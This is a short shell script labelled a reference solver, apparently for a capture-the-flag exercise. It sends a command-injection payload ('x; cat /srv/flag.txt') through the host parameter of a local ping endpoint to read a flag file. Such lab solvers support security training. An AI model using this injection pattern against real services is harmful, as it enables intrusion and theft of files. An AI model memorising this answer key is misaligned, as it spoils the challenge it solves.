#!/bin/sh
# Reference solver: end the command with ; and run another.
python3 -c "import urllib.request, urllib.parse; print(urllib.request.urlopen('http://127.0.0.1:8081/ping?host=' + urllib.parse.quote('x; cat /srv/flag.txt')).read().decode())"
